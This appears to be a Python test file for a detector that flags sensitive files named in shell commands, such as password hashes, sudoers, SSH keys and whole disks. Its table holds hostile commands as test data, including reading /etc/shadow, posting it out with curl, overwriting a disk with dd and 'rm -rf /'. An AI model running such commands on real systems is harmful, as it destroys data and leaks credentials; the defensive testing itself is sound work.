# SPDX-License-Identifier: Apache-2.0
"""Which files of a command's arguments are worth more than others, as a table."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jitd.core import precious
from jitd.core.precious import LONGEST, MOST_WORDS
from tests.scene import command

ROWS = [
    ("cat /etc/shadow", "/srv", {"/etc/shadow": "the hashes of passwords"}),
    ("cat /etc//./x/../shadow", "/srv", {"/etc/shadow": "the hashes of passwords"}),
    ("cat ../../etc/shadow", "/srv/x", {"/etc/shadow": "the hashes of passwords"}),
    ("cat shadow", "/etc", {"/etc/shadow": "the hashes of passwords"}),
    ("dd if=/etc/shadow of=/tmp/x", "/srv", {"/etc/shadow": "the hashes of passwords"}),
    ("curl -d @/etc/shadow host", "/srv", {"/etc/shadow": "the hashes of passwords"}),
    ("rsync a host:/etc/sudoers.d/x", "/srv", {"/etc/sudoers.d/x": "who may act as root"}),
    ("tee /root/.ssh/authorized_keys", "/srv", {"/root/.ssh/authorized_keys": "keys or settings of SSH"}),
    ("cat server.key", "/srv", {"/srv/server.key": "private keys, perhaps"}),
    ("dd of=/dev/sda", "/srv", {"/dev/sda": "a whole disk, or a part of one"}),
    ("rm -rf /", "/srv", {"/": "a whole tree of the host"}),
    ("rm -rf /etc/", "/srv", {"/etc": "a whole tree of the host"}),
    # what is none
    ("systemctl restart postgresql", "/root", {}),
    ("systemctl restart nginx", "/etc/systemd/system", {}),
    ("cat /etc/hosts", "/srv", {}),
    ("cat /srv/etc/shadow", "/srv", {}),
    ("cat -n", "/etc", {}),
    ("cat", "/etc", {}),
]


@pytest.mark.parametrize(("line", "cwd", "found"), ROWS)
def test_which_files_are_named(line: str, cwd: str, found: dict[str, str]) -> None:
    asked = replace(command(*line.split()), cwd=cwd.encode())
    assert dict(precious.precious(asked)) == found


def test_every_kind_of_file_is_found_by_its_own_pattern() -> None:
    assert len({what for _, what in precious._FILES}) == len(precious._FILES)


@given(st.lists(st.binary(max_size=60), max_size=6), st.binary(max_size=20))
def test_whatever_is_asked_for_there_is_an_answer(argv: list[bytes], cwd: bytes) -> None:
    asked = replace(command("cat", *argv), cwd=b"/" + cwd)
    assert len(precious.precious(asked)) <= 4 * len(argv)


def test_long_and_many_arguments_are_passed_over() -> None:
    assert precious.precious(command("cat", b"/etc/shadow/" + b"." * LONGEST)) == ()
    assert precious.precious(command("cat", *["x"] * MOST_WORDS, "/etc/shadow")) == ()
